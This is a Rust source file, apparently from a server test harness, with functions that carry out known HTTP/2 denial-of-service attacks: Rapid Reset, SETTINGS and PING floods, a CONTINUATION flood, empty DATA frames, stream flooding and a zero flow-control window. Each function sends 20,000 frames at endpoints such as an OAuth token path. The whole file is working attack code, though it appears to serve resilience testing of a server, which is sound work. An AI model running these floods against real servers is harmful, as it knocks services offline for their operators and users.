//! Attacks that HTTP/2 allows.

use std::io::{self, Write};
use std::net::{SocketAddr, TcpStream};

use rescind_harness::frames::{
    CONTINUATION, DATA, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, RST_STREAM, SETTINGS,
    frame, head, hello, line,
};

use super::connect;

const TOKEN: &str = "/api/oauth/token";

/// How many frames an attacker sends before it begins anew.
const FRAMES: u32 = 20_000;

fn begin(address: SocketAddr, settings: &[(u16, u32)]) -> io::Result<TcpStream> {
    let mut connection = connect(address)?;
    connection.write_all(&hello(settings))?;
    Ok(connection)
}

/// Sends what `frames` makes for one stream after another.
fn flood(connection: &mut TcpStream, mut frames: impl FnMut(u32) -> Vec<u8>) -> io::Result<()> {
    let streams: Vec<u32> = (0..FRAMES).map(|number| 2 * number + 1).collect();
    for some in streams.chunks(100) {
        connection
            .write_all(&some.iter().flat_map(|stream| frames(*stream)).collect::<Vec<_>>())?;
    }
    Ok(())
}

/// Each request costs the server more than the client (CVE-2023-44487).
pub(super) fn rapid_reset(address: SocketAddr) -> io::Result<()> {
    flood(&mut begin(address, &[])?, |stream| {
        let reset = frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
        [head("POST", TOKEN, 0, stream), reset].concat()
    })
}

pub(super) fn streams(address: SocketAddr) -> io::Result<()> {
    flood(&mut begin(address, &[])?, |stream| head("POST", TOKEN, 0, stream))
}

/// All answers stay with the server.
pub(super) fn closed_window(address: SocketAddr) -> io::Result<()> {
    flood(&mut begin(address, &[(INITIAL_WINDOW_SIZE, 0)])?, |stream| {
        head("GET", "/.well-known/jwks.json", END_STREAM, stream)
    })
}

/// Each is to be acknowledged (CVE-2019-9515).
pub(super) fn settings(address: SocketAddr) -> io::Result<()> {
    let size = [&INITIAL_WINDOW_SIZE.to_be_bytes()[..], &65_535_u32.to_be_bytes()].concat();
    flood(&mut begin(address, &[])?, |_| frame(SETTINGS, 0, 0, &size))
}

/// Each is to be answered (CVE-2019-9512).
pub(super) fn pings(address: SocketAddr) -> io::Result<()> {
    flood(&mut begin(address, &[])?, |_| frame(PING, 0, 0, b"pingping"))
}

/// A head that never ends (CVE-2024-27316).
pub(super) fn continuation(address: SocketAddr) -> io::Result<()> {
    let mut connection = begin(address, &[])?;
    connection.write_all(&frame(HEADERS, 0, 1, &line(":method", "GET")))?;
    flood(&mut connection, |_| frame(CONTINUATION, 0, 1, &line("x-large", &"x".repeat(100))))
}

/// Frames that bring nothing on (CVE-2019-9518).
pub(super) fn empty_data(address: SocketAddr) -> io::Result<()> {
    let mut connection = begin(address, &[])?;
    connection.write_all(&head("POST", TOKEN, 0, 1))?;
    flood(&mut connection, |_| frame(DATA, 0, 1, &[]))
}
